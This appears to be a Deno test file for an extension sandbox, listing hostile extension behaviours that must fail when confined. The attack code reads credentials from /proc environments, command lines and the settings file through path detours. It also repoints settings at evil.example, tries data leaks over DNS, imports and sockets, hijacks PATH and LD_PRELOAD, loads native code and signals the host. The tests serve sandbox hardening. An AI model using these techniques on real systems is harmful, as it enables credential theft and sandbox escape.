/**
 * What a hostile extension tries from inside. Each attack runs twice: as a plain Deno script that was handed the token, as
 * other systems do it, where it must succeed, or the attack is none; and as an extension, where it must not.
 */
import type { Attack, AttackedEngine } from '../harness/attack.ts'
import { testAttack } from '../harness/attack.ts'
import { DENO, EXECUTABLE } from '../harness/phylum.ts'
import { attackFromOutside } from './outside.ts'

/** The most that one wall can hold; `write = true` and `run` are refused until there is a second one. */
const EVERYTHING = 'read = true\nwrite = ["./"]\nenv = true\nnet = true'

const ATTACKS: Attack[] = [
  attackFromOutside(
    'E73 has a program run outside of the sandbox that looks for the credential everywhere',
    (program, words) =>
      `(await import('node:buffer')).Buffer.from(new Deno.Command(${program}, { args: ${words} }).outputSync().stdout)`,
  ),
  {
    name: 'A1 reads its environment in every way there is',
    permissions: 'env = true\nread = true',
    code: `import process from 'node:process'
      console.log(JSON.stringify(Deno.env.toObject()), JSON.stringify(process.env))
      for (const path of ['/proc/self/environ', '/proc/thread-self/environ']) {
        try { console.log(Deno.readTextFileSync(path)) } catch (error) { console.log(error.message) }
      }`,
  },
  {
    name: 'A2 reads the environment of every process on the machine',
    permissions: EVERYTHING,
    code: `import { readdirSync, readFileSync } from 'node:fs'
      for (const pid of readdirSync('/proc')) {
        for (const file of ['environ', 'cmdline', 'task/' + pid + '/environ']) {
          try { console.log(readFileSync('/proc/' + pid + '/' + file, 'latin1')) } catch {}
        }
      }
      console.log(JSON.stringify(Deno.env.toObject()))`,
  },
  {
    name: 'A4 looks for the credential in command lines',
    permissions: EVERYTHING,
    code: `for (const entry of Deno.readDirSync('/proc')) {
        try { console.log(Deno.readTextFileSync('/proc/' + entry.name + '/cmdline')) } catch {}
      }
      console.log(JSON.stringify(Deno.args))`,
  },
  {
    name: 'A5 reads the settings file by its path, and through detours',
    permissions: EVERYTHING,
    code: `import { readFileSync } from 'node:fs'
      import { open } from 'node:fs/promises'
      const parts = SETTINGS.split('/')
      const detours = [
        SETTINGS,
        parts.toSpliced(-1, 0, '.').join('/'),
        parts.toSpliced(-1, 0, 'x', '..').join('/'),
        '/proc/self/root' + SETTINGS,
        '/proc/self/cwd/../../../../../..' + SETTINGS,
        '//' + SETTINGS,
        new URL('file://' + SETTINGS),
      ]
      for (const path of detours) {
        try { console.log(Deno.readTextFileSync(path)) } catch {}
        try { console.log(readFileSync(path, 'utf8')) } catch {}
        try { console.log(await (await fetch(new URL('file://' + path))).text()) } catch {}
        try { console.log(await (await open(path)).readFile('utf8')) } catch {}
        try { console.log((await import('file://' + path, { with: { type: 'text' } })).default) } catch {}
      }
      try { Deno.copyFileSync(SETTINGS, 'copy-of-settings'); console.log(Deno.readTextFileSync('copy-of-settings')) } catch {}
      try { Deno.renameSync(SETTINGS, SETTINGS + '.2'); console.log(Deno.readTextFileSync(SETTINGS + '.2')) } catch {}
      try { Deno.linkSync(SETTINGS, SETTINGS + '.3'); console.log(Deno.readTextFileSync(SETTINGS + '.3')) } catch {}
      try { Deno.symlinkSync(SETTINGS, SETTINGS + '.4'); console.log(Deno.readTextFileSync(SETTINGS + '.4')) } catch {}`,
  },
  {
    name: 'A5 replaces the settings file, or points it at another API',
    permissions: EVERYTHING,
    code:
      `try { Deno.writeTextFileSync(SETTINGS, 'connection:\\n  uri: https://evil.example\\n'); console.log('REPLACED') } catch {}
      try { Deno.removeSync(SETTINGS); console.log('REPLACED') } catch {}
      try { Deno.renameSync(SETTINGS.replace('/settings.yaml', ''), './moved-away-' + Deno.pid); console.log('REPLACED') } catch {}
      try { Deno.truncateSync(SETTINGS, 0); console.log('REPLACED') } catch {}
      try { Deno.chmodSync(SETTINGS, 0o777); console.log('REPLACED') } catch {}`,
    loot: /REPLACED/,
  },
  {
    name: 'E68 reads what descriptors were left open for it',
    permissions: EVERYTHING,
    code: `for (let fd = 3; fd < 64; fd++) {
        try { console.log(fd, Deno.readTextFileSync('/proc/self/fd/' + fd)) } catch {}
        try { console.log(fd, (await import('node:fs')).readFileSync(fd, 'utf8')) } catch {}
      }
      console.log(JSON.stringify(Deno.env.toObject()))`,
  },
  {
    name: 'F82 asks for the credential by name',
    permissions: 'env = ["HOME"]',
    code: `for (const name of ['PHYLUM_API_KEY', 'phylum_api_key', 'PHYLUM_API_KEY ']) {
        try { console.log(Deno.env.get(name)) } catch (error) { console.log(error.message) }
      }`,
  },
  {
    name: 'F83 loads an .env file of its own making into its environment',
    permissions: 'read = ["./"]\nwrite = ["./"]',
    code: `import process from 'node:process'
      Deno.writeTextFileSync('.env', 'LOADED=yes')
      try { process.loadEnvFile('.env'); console.log(process.env.LOADED, Deno.env.get('LOADED')) } catch (error) { console.log(error.message) }`,
    loot: /yes/,
  },
  {
    name: 'G87 sends data out by importing code',
    permissions: '',
    code: `const port = Deno.args[1]
      for (const url of ['http://127.0.0.1:' + port + '/stolen.js', 'http://localhost:' + port + '/stolen.js']) {
        try { await import(url); console.log('SENT') } catch {}
        try { await import(url + 'on', { with: { type: 'json' } }); console.log('SENT') } catch {}
        try { await new Promise((resolve, reject) => {
          const worker = new Worker(url, { type: 'module' }); worker.onerror = (event) => { event.preventDefault(); reject() }
          setTimeout(reject, 200) }) } catch {}
      }
      Deno.exit(0)`,
    loot: /SENT/,
  },
  {
    name: 'G88 opens sockets of every kind',
    permissions: '',
    code: `import net from 'node:net'
      import dgram from 'node:dgram'
      const port = Number(Deno.args[1])
      try { await fetch('http://127.0.0.1:' + port + '/x'); console.log('CONNECTED') } catch {}
      try { await Deno.connect({ port }); console.log('CONNECTED') } catch {}
      try { await Deno.connect({ transport: 'unix', path: '/run/docker.sock' }); console.log('CONNECTED') } catch {}
      try { Deno.listen({ port: 0 }); console.log('CONNECTED') } catch {}
      try { await new Promise((resolve, reject) => { const socket = new WebSocket('ws://127.0.0.1:' + port); socket.onopen = resolve; socket.onerror = reject }); console.log('CONNECTED') } catch {}
      try { await new Promise((resolve, reject) => net.connect(port).on('connect', resolve).on('error', reject)); console.log('CONNECTED') } catch {}
      try { await new Promise((resolve, reject) => { const socket = dgram.createSocket('udp4'); socket.on('error', reject); socket.send('x', port, '127.0.0.1', (error) => error ? reject(error) : resolve(0)) }); console.log('CONNECTED') } catch {}
      Deno.exit(0)`,
    loot: /CONNECTED/,
  },
  {
    name: 'G89 asks the name server about its data',
    permissions: '',
    code: `import dns from 'node:dns/promises'
      const asked = []
      for (const ask of [() => Deno.resolveDns('data.evil.example', 'A'), () => dns.lookup('localhost')]) {
        try { await ask(); asked.push('ANSWERED') } catch (error) { asked.push(error.name === 'NotCapable' || error.code === 'EPERM' || /Requires net|io error/.test(error.message) ? 'refused' : 'ANSWERED') }
      }
      console.log(asked.includes('ANSWERED') ? 'ASKED' : 'refused')`,
    loot: /ASKED/,
  },
  {
    name: 'E74 starts programs',
    permissions: EVERYTHING,
    code: `import { execSync, spawnSync } from 'node:child_process'
      try { console.log(new TextDecoder().decode(new Deno.Command('/bin/sh', { args: ['-c', 'echo STARTED'] }).outputSync().stdout)) } catch {}
      try { console.log(execSync('echo STARTED').toString()) } catch {}
      try { console.log(String(spawnSync('/bin/echo', ['STARTED']).stdout)) } catch {}`,
    loot: /STARTED/,
  },
  {
    name: 'A3 has a program read the environment of every process, and the settings',
    permissions: `${EVERYTHING}\nrun = ["sh", "cat"]`,
    code:
      `for (const path of ['/proc/$PPID/environ', '/proc/1/environ', '/proc/[0-9]*/environ', '/proc/[0-9]*/cmdline', SETTINGS, '/proc/1/root' + SETTINGS]) {
        const { stdout } = new Deno.Command('sh', { args: ['-c', 'cat ' + path] }).outputSync()
        console.log(new TextDecoder('latin1').decode(stdout))
      }`,
  },
  {
    name: 'A15 runs phylum itself, which knows the credential',
    permissions: `${EVERYTHING}\nrun = [${JSON.stringify(EXECUTABLE)}]`,
    code: `const { stdout, stderr } = new Deno.Command(${
      JSON.stringify(EXECUTABLE)
    }, { args: ['auth', 'token'] }).outputSync()
      console.log(new TextDecoder().decode(stdout), new TextDecoder().decode(stderr))`,
  },
  {
    name: 'E71 writes to the terminal that its user sits at',
    permissions: 'run = ["sh"]',
    code:
      `const { success } = new Deno.Command('sh', { args: ['-c', 'ls /dev/tty && echo x > /dev/null'] }).outputSync()
      console.log(success ? 'REACHED' : 'nothing')`,
    loot: /REACHED/,
  },
  {
    name: 'E75 steers a program that it starts by variables of the loader',
    permissions: 'run = ["sh"]',
    code: `for (const name of ['LD_PRELOAD', 'LD_AUDIT', 'LD_LIBRARY_PATH']) {
        try {
          const { stdout } = new Deno.Command('sh', { args: ['-c', 'echo $' + name], env: { [name]: '/STEERED' } }).outputSync()
          console.log(new TextDecoder().decode(stdout))
        } catch (error) { console.log(error.name) }
      }`,
    loot: /STEERED/,
  },
  {
    name: 'E76 has an interpreter start what it may not start itself',
    permissions: 'run = ["sh"]',
    code:
      `const { stdout } = new Deno.Command('sh', { args: ['-c', '/bin/ls -d / && echo STARTED; /usr/bin/env echo STARTED'] }).outputSync()
      console.log(new TextDecoder().decode(stdout))`,
    loot: /STARTED/,
  },
  {
    name: 'E74 puts a program of its own where another is looked for',
    permissions: 'read = ["./"]\nwrite = ["./"]\nenv = ["PATH"]\nrun = ["cat"]',
    code: `Deno.writeTextFileSync('cat', '#!/bin/sh\\necho REPLACED\\n', { mode: 0o755 })
      for (const [command, env] of [['cat', { PATH: Deno.cwd() + ':/usr/bin' }], ['./cat', {}], [Deno.cwd() + '/cat', {}]]) {
        try { console.log(new TextDecoder().decode(new Deno.Command(command, { args: ['/dev/null'], env }).outputSync().stdout)) } catch {}
      }`,
    loot: /REPLACED/,
  },
  {
    name: 'D67 loads native code',
    permissions: EVERYTHING,
    code:
      `try { Deno.dlopen('libc.so.6', { getpid: { parameters: [], result: 'i32' } }); console.log('LOADED') } catch {}
      import process from 'node:process'
      try { process.dlopen({ exports: {} }, '/lib/x86_64-linux-gnu/libc.so.6'); console.log('LOADED') } catch (error) { if (!/Requires|ffi/.test(String(error))) console.log('LOADED', String(error)) }`,
    loot: /LOADED/,
  },
  {
    name: 'E79 gives a worker more than it has',
    permissions: '',
    code:
      `const source = 'try { postMessage(Deno.readTextFileSync("/etc/hostname") && "READ") } catch (error) { postMessage(error.message) }'
      const worker = new Worker('data:text/javascript,' + encodeURIComponent(source), { type: 'module', deno: { permissions: { read: true } } })
      console.log(await new Promise((resolve) => { worker.onmessage = (event) => resolve(event.data); worker.onerror = (event) => { event.preventDefault(); resolve(event.message) } }))
      Deno.exit(0)`,
    loot: /READ/,
  },
  {
    name: 'D56 changes its own program',
    permissions: EVERYTHING,
    code: `const own = new URL('.', import.meta.url).pathname
      try { Deno.writeTextFileSync(own + 'PhylumExt.toml', 'x'); console.log('CHANGED') } catch {}
      try { Deno.writeTextFileSync(own + 'more.ts', 'x'); console.log('CHANGED') } catch {}
      try { Deno.renameSync(own, own + '../moved'); console.log('CHANGED') } catch {}`,
    loot: /CHANGED/,
  },
  {
    name: 'E69 stops or kills its host',
    permissions: EVERYTHING,
    code: `import process from 'node:process'
      try { Deno.kill(Deno.ppid, 'SIGURG'); console.log('SIGNALLED') } catch {}
      try { process.kill(process.ppid, 'SIGURG'); console.log('SIGNALLED') } catch {}`,
    loot: /SIGNALLED/,
  },
]

/** As other systems run an extension. */
const PLAIN_DENO: AttackedEngine = {
  command: [DENO, 'run', '-A', '--no-config', '--no-lock', '--unstable-worker-options', 'main.ts'],
  line: '',
}

for (const attack of ATTACKS) testAttack(attack, PLAIN_DENO)
